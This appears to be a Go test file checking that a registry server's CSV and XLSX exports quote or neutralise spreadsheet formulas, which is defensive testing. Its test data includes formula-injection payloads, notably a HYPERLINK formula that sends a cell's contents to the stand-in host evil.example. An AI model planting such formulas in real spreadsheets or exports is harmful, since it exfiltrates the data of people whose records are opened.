package server

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"google.golang.org/genproto/googleapis/api/httpbody"

	pb "trithuc.gov.vn/trithuc/proto/trithuc/v1"
	"trithuc.gov.vn/trithuc/transfer"
)

// startsFormula reports whether a spreadsheet would read the cell as a
// formula.
func startsFormula(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// A registrar's text that a spreadsheet would run as a formula is quoted
// in a CSV export, and the export re-imports with no changes; the XLSX
// export has no formula either.
func TestExportCSVStartsNoFormula(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	hyperlink := `=HYPERLINK("http://evil.example/?"&A1,"Bấm")`
	for _, p := range []*pb.Person{
		{FamilyName: "=2+5", MiddleName: "-abc", GivenName: "@x", Phone: "+84 912345678", Address: hyperlink, NationalId: "001080000001"},
		{FamilyName: "Trần", GivenName: "'=x", Phone: "+84 912 345 678", Address: "-1+1", NationalId: "001080000002"},
	} {
		if _, err := e.client.People.CreatePerson(ctx, &pb.CreatePersonRequest{Person: p}); err != nil {
			t.Fatal(err)
		}
	}
	data := e.export(e.token, &pb.ExportPeopleRequest{Columns: []string{"name", "family_name", "middle_name", "given_name", "phone", "address"}})
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	lines, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for _, line := range lines {
		for _, c := range line {
			if startsFormula(c) {
				t.Errorf("cell %q starts a formula", c)
			}
			cells = append(cells, c)
		}
	}
	for _, want := range []string{"'=2+5", "'-abc", "'@x", "'+84 912345678", "'" + hyperlink, "''=x", "'-1+1"} {
		if !strings.Contains(strings.Join(cells, "\x00")+"\x00", "\x00"+want+"\x00") {
			t.Errorf("no cell %q in the export:\n%s", want, data)
		}
	}

	resp, st := e.importFile(&pb.ImportPeopleRequest{File: &httpbody.HttpBody{ContentType: transfer.ContentTypeCSV, Data: data}})
	if st != nil || resp.Unchanged != 2 || resp.Created+resp.Updated != 0 || len(resp.Problems) != 0 {
		t.Fatalf("re-importing the CSV export: %v %v", st, resp)
	}
	got, err := e.client.People.ListPeople(ctx, &pb.ListPeopleRequest{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range got.People {
		if p.NationalId == "001080000001" && (p.FamilyName != "=2+5" || p.Phone != "+84 912345678" || p.Address != hyperlink) ||
			p.NationalId == "001080000002" && p.GivenName != "'=x" {
			t.Errorf("after the re-import: %v", p)
		}
	}

	// XLSX cells are text, never formulas.
	xlsx := e.export(e.token, &pb.ExportPeopleRequest{Format: pb.SpreadsheetFormat_XLSX})
	zr, err := zip.NewReader(bytes.NewReader(xlsx), int64(len(xlsx)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := f.Open()
		sheet, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(sheet, []byte("<f>")) || bytes.Contains(sheet, []byte("<f ")) {
			t.Errorf("%s holds a formula", f.Name)
		}
	}
}

// The statistics and report CSV quote a label that would start a formula
// (an organization's name, say) but write a count or a negative change as
// the number.
func TestStatisticsCSVStartsNoFormula(t *testing.T) {
	n := int32(12)
	resp := &pb.ComputeStatisticsResponse{
		DimensionLabels: []string{"Cơ quan"},
		Rows:            []*pb.StatisticsRow{{Values: []string{"organizations/1"}, Labels: []string{`=HYPERLINK("http://evil.example")`}, Count: &n}},
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(statisticsCSV(resp, ""), []byte(utf8BOM))))
	r.FieldsPerRecord = -1
	lines, err := r.ReadAll()
	if err == nil {
		for _, line := range lines {
			for _, c := range line {
				if startsFormula(c) {
					t.Errorf("cell %q starts a formula", c)
				}
			}
		}
	}
	if err != nil || len(lines) < 2 || lines[1][len(lines[1])-1] != "12" {
		t.Errorf("statistics CSV: %v %q", err, lines)
	}
}
